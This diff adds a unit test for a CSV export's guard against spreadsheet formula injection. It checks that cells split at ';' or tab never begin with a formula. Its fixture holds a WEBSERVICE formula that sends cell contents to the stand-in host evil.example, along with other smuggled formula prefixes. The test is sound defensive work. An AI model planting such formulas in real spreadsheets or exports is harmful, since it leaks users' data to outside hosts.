@@ -225,4 +225,38 @@ describe('formula-injection guard', () => {
     expect(hRow[hHeader.indexOf('start')]).toBe(String(hostile.target.position.start))
     expect(hRow[hHeader.indexOf('note')]).toBe("'=1+1")
   })
+
+  // Excel in most of Europe opens a .csv split at ';' (its list separator), not at ','; LibreOffice's import
+  // splits at tabs and ';' as well as ','. There a ';' or a tab inside a cell starts a new cell, so text after
+  // it must not start a formula either (OWASP: "take care of the field separator").
+  it('leaves no formula at the start of a cell a spreadsheet makes by splitting at ";" or a tab', () => {
+    const one = bundle.annotations.find((a) => a.figure)!
+    const payload = '=WEBSERVICE("https://evil.example/?"&A1)'
+    const hostile: Annotation = {
+      ...one,
+      note: `Source;${payload}`,
+      tags: ['a;+1', 'b\t@SUM(A1:A9)'],
+      figure: { ...one.figure!, unit: `kg;-2+3`, attributedTo: `mayor\t${payload}` },
+    }
+    const article = { ...articleOf(one), title: `Budget;${payload}` }
+    const hostileBundle = {
+      ...bundle,
+      articles: bundle.articles.map((a) => (a.id === article.id ? article : a)),
+      annotations: [hostile],
+    }
+    for (const file of [exportFiguresCsv(hostileBundle), exportHighlightsCsv(hostileBundle)]) {
+      for (const delimiter of [';', '\t']) {
+        const { data } = Papa.parse<string[]>(file.content, {
+          delimiter,
+          newline: '\r\n',
+          skipEmptyLines: true,
+        })
+        const formulas = data.flat().filter((cell) => /^[=+\-@]/.test(cell))
+        expect(formulas, `${file.name} split at ${JSON.stringify(delimiter)}`).toEqual([])
+      }
+      // Read as written (split at ','), each cell still holds all its text.
+      const [header, row] = parse(file.content)
+      expect(row[header.indexOf('note')]).toBe(`Source;'${payload}`)
+    }
+  })
 })
